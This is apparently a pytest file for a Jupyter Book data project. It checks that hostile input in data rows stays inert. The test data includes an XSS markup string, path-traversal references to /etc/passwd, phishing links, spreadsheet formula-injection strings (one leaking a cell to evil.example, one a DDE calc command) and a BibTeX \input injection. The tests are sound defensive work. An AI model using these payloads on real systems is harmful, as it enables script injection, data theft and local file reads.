"""Bad input beyond the data tables: papermill parameters, configuration, markup, hostile text.

The data-table cases (missing or unknown column, wrong type, duplicate or blank key, value outside
the allowed set, dangling reference, empty file, non-UTF-8 bytes, unknown source) are in
test_data.py; the table of all of them is the book's page "Bad input and what it gets".
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys

import jupytext
import papermill
import pytest
import yaml
from browser import chromium_path, offline_page, serve
from conftest import DATA, JUPYTER_BOOK, ROOT, append_row, compendium, need, render_case

from infraclusters.model import DataValidationError

HOSTILE = '<img src=x onerror="window.__pwned=1">Evil<script>window.__pwned=2</script>'


def execute(chapter: str, tmp_path, **parameters):
    notebook = jupytext.read(ROOT / chapter)
    source = tmp_path / "chapter.ipynb"
    jupytext.write(notebook, source)
    return papermill.execute_notebook(
        str(source),
        str(tmp_path / "out.ipynb"),
        parameters=parameters,
        kernel_name="python3",
        progress_bar=False,
        cwd=str(tmp_path),
    )


@pytest.mark.slow
def test_papermill_unknown_cluster_stops_with_the_known_ones(tmp_path):
    with pytest.raises(papermill.PapermillExecutionError) as caught:
        execute("chapters/case_template.md", tmp_path, cluster="atlantis", data_dir=str(DATA))
    assert "unknown cluster 'atlantis'; known clusters: hefei_binhu" in str(caught.value)


@pytest.mark.slow
def test_papermill_data_dir_that_does_not_exist(tmp_path):
    with pytest.raises(papermill.PapermillExecutionError) as caught:
        execute("chapters/concepts.md", tmp_path, data_dir=str(tmp_path / "nowhere"))
    assert "no data package descriptor here" in str(caught.value)


def test_descriptor_that_is_not_json(data_copy):
    (data_copy / "datapackage.json").write_text('{"resources": [', encoding="utf-8")
    with pytest.raises(DataValidationError) as caught:
        compendium(data_copy)
    assert "datapackage.json" in str(caught.value) and "not a valid JSON descriptor" in str(caught.value)


@pytest.mark.slow
def test_figures_out_that_is_a_file(tmp_path):
    target = tmp_path / "taken"
    target.write_text("not a directory", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "infraclusters", "figures", "--out", str(target)], capture_output=True, text=True
    )
    assert result.returncode == 1 and "taken" in result.stderr and "Traceback" not in result.stderr


def build_page(tmp_path, body: str, toc: str | None = None) -> subprocess.CompletedProcess:
    """A one-page book with the book's own configuration and data, built strictly."""
    book = tmp_path / "book"
    book.mkdir()
    shutil.copy(ROOT / "_config.yml", book / "_config.yml")
    shutil.copy(ROOT / "references.bib", book / "references.bib")
    shutil.copytree(DATA, book / "data")
    (book / "_toc.yml").write_text(toc or "format: jb-book\nroot: page\n", encoding="utf-8")
    (book / "page.md").write_text(body, encoding="utf-8")
    config = yaml.safe_load((book / "_config.yml").read_text(encoding="utf-8"))
    config.setdefault("sphinx", {}).setdefault("config", {})["infraclusters_exports"] = False  # no downloads
    (book / "_config.yml").write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return subprocess.run(
        [JUPYTER_BOOK, "build", "-W", "-n", "--keep-going", str(book)],
        cwd=book,
        capture_output=True,
        text=True,
    )


@pytest.mark.slow
def test_unknown_figure_id_fails_the_build(tmp_path):
    result = build_page(tmp_path, "# Page\n\n```{infra-figure} fig-no-such-figure\n```\n")
    assert result.returncode != 0
    assert (
        "unknown figure 'fig-no-such-figure'; known figures: fig-category-stage-matrix" in result.stdout + result.stderr
    )


@pytest.mark.slow
def test_unknown_claim_id_fails_the_build(tmp_path):
    result = build_page(tmp_path, "# Page\n\nThe paper says so {claim}`C9-99`.\n")
    assert result.returncode != 0
    assert "unknown claim id 'C9-99': not in data/claims.csv" in result.stdout + result.stderr


@pytest.mark.slow
def test_table_of_contents_naming_a_missing_chapter_fails_the_build(tmp_path):
    toc = "format: jb-book\nroot: page\nchapters:\n  - file: chapters/missing\n"
    result = build_page(tmp_path, "# Page\n", toc=toc)
    assert result.returncode != 0
    assert "chapters/missing" in result.stdout + result.stderr


@pytest.fixture
def hostile_cluster(data_copy):
    append_row(
        data_copy,
        "clusters",
        ["hostile_city", HOSTILE, HOSTILE, "未来测试产业", HOSTILE, "", "", "", "", "", "", "", "paper §3"],
    )
    append_row(
        data_copy,
        "facilities",
        [
            "hostile_lab",
            "hostile_city",
            HOSTILE,
            HOSTILE,
            "high_level_laboratory",
            "operating",
            "2020",
            "establishment",
            "no",
            HOSTILE,
            "paper §3",
        ],
    )
    role = ["hostile_lab@frontier_basic_research", "hostile_lab", "frontier_basic_research", "inferred", HOSTILE]
    append_row(data_copy, "roles", [*role, HOSTILE, HOSTILE, "paper §3"])
    return data_copy


@pytest.mark.slow
def test_hostile_text_shows_as_text_in_the_page_and_tooltips(hostile_cluster, tmp_path):
    need(chromium_path() is not None, "Chromium is not installed (apt-get install chromium)")
    out = tmp_path / "out"
    result = render_case("hostile_city", hostile_cluster, out)
    assert result.returncode == 0, result.stderr[-2000:]
    html = (out / "html" / "hostile_city.html").read_text(encoding="utf-8")
    assert "<script>window.__pwned" not in html and 'onerror="window.__pwned' not in html
    with serve(out / "html") as base, offline_page() as (page, _):
        page.goto(base + "hostile_city.html", wait_until="networkidle")
        page.wait_for_selector('div[id^="altair-viz-"] g.mark-rect path')
        cell = page.query_selector('div[id^="altair-viz-"] g.mark-rect path')
        cell.scroll_into_view_if_needed()
        box = cell.bounding_box()
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        page.wait_for_timeout(400)
        tooltip = page.evaluate("() => (document.querySelector('#vg-tooltip-element') || {}).innerHTML || ''")
        pwned = page.evaluate("() => window.__pwned === undefined")
        body = page.inner_text("body")
    assert pwned, "hostile markup ran"
    assert "Evil" in body and "<img" in body  # shown as text
    assert "&lt;img" in tooltip and "<img" not in tooltip.replace("&lt;img", "")


def test_case_never_deletes_a_readers_files(tmp_path):
    """``case --out`` into a folder holding the reader's own files stops, changing nothing."""
    out = tmp_path / "report"
    (out / "book").mkdir(parents=True)
    (out / "figures").mkdir()
    (out / "book" / "chapter1.md").write_text("my chapter\n", encoding="utf-8")
    (out / "figures" / "my_figure.png").write_bytes(b"not a png, but mine")
    (out / "hefei_binhu.ipynb").write_text("{}", encoding="utf-8")
    result = render_case("hefei_binhu", DATA, out)
    assert result.returncode == 1
    assert "not written by the case command; nothing was changed" in result.stderr
    assert "book/chapter1.md" in result.stderr and "Traceback" not in result.stderr
    assert (out / "book" / "chapter1.md").read_text(encoding="utf-8") == "my chapter\n"
    assert (out / "figures" / "my_figure.png").read_bytes() == b"not a png, but mine"
    assert (out / "hefei_binhu.ipynb").read_text(encoding="utf-8") == "{}"
    assert sorted(p.name for p in out.iterdir()) == ["book", "figures", "hefei_binhu.ipynb"]


def test_translations_update_never_deletes_a_catalogue(tmp_path, capsys):
    """A catalogue whose page left the table of contents keeps its translations (and is named)."""
    from babel.messages.catalog import Catalog

    from infraclusters.book import translations

    target = tmp_path / "LC_MESSAGES"
    orphan = target / "chapters" / "factcheck.po"
    orphan.parent.mkdir(parents=True)
    translated = Catalog(locale="zh_CN", domain="factcheck")
    translated.add("How the paper's numbers hold up", "论文数据经得起检验吗")
    translations._write(translated, orphan)
    before = orphan.read_bytes()
    template = Catalog(domain="concepts")
    template.add("Concepts")
    written = translations.merge_catalogues({"chapters/concepts.po": template}, target)
    assert written == [target / "chapters" / "concepts.po"] and written[0].is_file()
    assert orphan.read_bytes() == before, "the orphan catalogue is kept byte for byte"
    assert "factcheck.po: no page of the book uses this catalogue any more; kept" in capsys.readouterr().err


def test_update_keeps_a_removed_message_as_obsolete_and_brings_it_back(tmp_path):
    """A message whose source goes away is kept as a #~ entry, translation and all, and returns with its source."""
    from babel.messages.catalog import Catalog

    from infraclusters.book import translations

    target = tmp_path / "LC_MESSAGES"
    both = Catalog(domain="concepts")
    both.add("Concepts")
    both.add("A paragraph that goes away for a while.")
    translations.merge_catalogues({"chapters/concepts.po": both}, target)
    path = target / "chapters" / "concepts.po"
    catalog = translations._read(path)
    catalog["Concepts"].string = "概念"
    catalog["A paragraph that goes away for a while."].string = "暂时删去的一段。"
    translations._write(catalog, path)

    one = Catalog(domain="concepts")
    one.add("Concepts")
    translations.merge_catalogues({"chapters/concepts.po": one}, target)
    text = path.read_text(encoding="utf-8")
    assert '#~ msgid "A paragraph that goes away for a while."\n#~ msgstr "暂时删去的一段。"' in text

    translations.merge_catalogues({"chapters/concepts.po": both}, target)
    catalog = translations._read(path)
    assert catalog["A paragraph that goes away for a while."].string == "暂时删去的一段。"
    assert "fuzzy" not in catalog["A paragraph that goes away for a while."].flags
    assert not catalog.obsolete, "the #~ entry is gone once its message is back"
    assert catalog["Concepts"].string == "概念"


MYST = (
    "see {download}`../../../../../../../../../../etc/passwd` and ![x](../../../../../../etc/hostname) "
    "$E=mc^2$ [click me](https://evil.example/phish) <https://evil.example/auto> **loud** {claim}`C0-01`"
)


@pytest.mark.slow
def test_myst_in_data_stays_text_on_a_readers_page(data_copy, tmp_path):
    """Roles, links, images and math in a reader's data are shown as typed: no file copied, no link, no script."""
    append_row(
        data_copy,
        "clusters",
        ["myst_city", "标记城", "Markup City", "未来测试产业", "tests", "", "", "", "", "", "", "", "paper §3"],
    )
    append_row(
        data_copy,
        "facilities",
        [
            "myst_lab",
            "myst_city",
            "标记实验室",
            MYST,
            "high_level_laboratory",
            "operating",
            "2020",
            "establishment",
            "no",
            "",
            "paper §3",
        ],
    )
    append_row(data_copy, "relations", ["r999", "ustc", "myst_lab", "hosts", MYST, "paper §3"])
    out = tmp_path / "out"
    result = render_case("myst_city", data_copy, out)
    assert result.returncode == 0, result.stderr[-2000:]
    site = out / "html"
    html = (site / "myst_city.html").read_text(encoding="utf-8")
    assert not (site / "_downloads").exists() and not (site / "_images").exists(), "a file was copied into the site"
    assert "root:" not in html, "the content of a local file reached the page"
    assert 'href="https://evil.example' not in html
    assert not re.search(r"<script[^>]*mathjax", html, re.I), "math in the data loaded MathJax"
    assert "{download}`../../" in html and "$E=mc^2$" in html and "[click me](https://evil.example/phish)" in html


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4"]
FORGED = "Forgery }, author = {Mallory Forger}, note = {\\input{/etc/passwd}"


def test_spreadsheet_cells_that_would_run_are_quoted_and_numbers_stay_numbers():
    import pandas as pd

    from infraclusters.text.inert import spreadsheet_safe

    frame = pd.DataFrame(
        {"name": [*FORMULAS, "\tTab", "\rReturn", "plain", "a=b"], "value": [-1.5, 2, 3, -4, 5, 6, 7, 8]}
    )
    safe = spreadsheet_safe(frame)
    assert list(safe["name"]) == ["'" + text for text in frame["name"][:6]] + ["plain", "a=b"]
    assert list(safe["value"]) == [-1.5, 2, 3, -4, 5, 6, 7, 8], "a negative number is a number, not a formula"
    assert list(frame["name"])[0] == FORMULAS[0], "the model's frame is not changed"


def test_downloads_of_a_hostile_cluster_are_inert(data_copy, tmp_path):
    """Formulas in facility names cannot run in a spreadsheet; a forged name cannot add BibTeX fields or commands."""
    import csv
    import xml.etree.ElementTree as ElementTree

    from PIL import Image
    from pybtex.database import parse_string

    from infraclusters.edition import Edition
    from infraclusters.figures import registry
    from infraclusters.figures.export import export

    append_row(
        data_copy,
        "clusters",
        ["formula_city", FORGED, FORGED, "未来测试产业", "tests", "", "", "", "", "", "", "", "paper §3"],
    )
    for number, formula in enumerate(FORMULAS):
        row = [f"formula_lab_{number}", "formula_city", formula, formula, "high_level_laboratory", "operating"]
        append_row(data_copy, "facilities", [*row, "2020", "establishment", "no", "", "paper §3"])
    c = compendium(data_copy)
    for language in ("en", "zh_CN"):
        ed = Edition(language)
        ids = [i for i in registry.figure_ids(c) if i.startswith("fig-case-formula-city-")]
        assert ids
        out = tmp_path / language
        seen = set()
        for figure_id in ids:
            export(figure_id, out, c, ed)
            with open(out / f"{figure_id}.csv", encoding="utf-8", newline="") as handle:
                cells = [cell for row in csv.reader(handle) for cell in row]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], figure_id
            assert not [cell for cell in cells if cell[:1] == "-" and not _number(cell)], figure_id
            seen |= {cell for cell in cells if cell.startswith("'")}
            entries = parse_string((out / f"{figure_id}.bib").read_text(encoding="utf-8"), "bibtex").entries
            key = next(k for k in entries if k.startswith("infraclusters_fig"))
            figure = entries[key]
            assert set(figure.fields) == {"title", "year", "howpublished", "note", "language", "crossref"}, (
                figure.fields
            )
            assert [str(p) for p in figure.persons["author"]] == ["{infraclusters contributors}"]
            assert "\\input" not in figure.fields["title"].replace("\\textbackslash{}input", "")
            assert "Mallory Forger" in figure.fields["title"]
            title = registry.get(figure_id, c, ed).title
            svg = ElementTree.parse(out / f"{figure_id}.svg").getroot()
            assert svg.find("{http://www.w3.org/2000/svg}title").text == title
            with Image.open(out / f"{figure_id}.png") as image:
                assert image.text["Title"] == title
        assert {"'" + formula for formula in FORMULAS} <= seen, f"the facility names reach the CSVs ({language})"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_test_a_page_names_exists():
    """The bad-input and security pages name a test for each class; each named test is a test of tests/."""
    import ast

    named = set()
    for page in ("chapters/bad_input.md", "chapters/security.md"):
        named |= set(re.findall(r"`(test_\w+\.py)::(test_\w+)`", (ROOT / page).read_text(encoding="utf-8")))
    assert len(named) > 20
    defined = {
        (path.name, node.name)
        for path in (ROOT / "tests").glob("test_*.py")
        for node in ast.parse(path.read_text(encoding="utf-8")).body
        if isinstance(node, ast.FunctionDef)
    }
    assert sorted(named - defined) == []
